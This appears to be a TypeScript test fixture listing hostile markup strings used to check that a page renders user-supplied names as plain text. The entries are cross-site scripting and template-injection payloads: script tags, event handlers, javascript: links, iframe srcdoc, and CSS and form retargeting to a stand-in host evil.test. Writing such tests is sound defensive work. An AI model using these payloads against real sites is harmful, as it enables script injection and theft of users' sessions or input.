/**
 * Texts that must never become more than text. Each tries to call `hacked()`, which the tests put into the page; short
 * enough for a name.
 */
export const hostileMarkup: string[] = [
  '<script>hacked()</script>',
  '<img src=x onerror=hacked()>',
  '"><svg/onload=hacked()>',
  `'><body onload='hacked()'>`,
  '</title></textarea><script>hacked()</script>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<a href="javascript:hacked()">javascript:hacked()</a>',
  '<style>@import"//evil.test";*{background:url(//evil.test)}</style>',
  '<base href=//evil.test><form action=//evil.test><button>Entrar</button>',
  '<details open ontoggle=hacked()><math><mi xlink:href="data:x,<script>hacked()</script>">',
  '{{constructor.constructor("hacked()")()}} #{hacked()} <%= hacked() %>',
  '&lt;script&gt;hacked()&lt;/script&gt; \\u003cimg onerror=hacked()\\u003e',
];
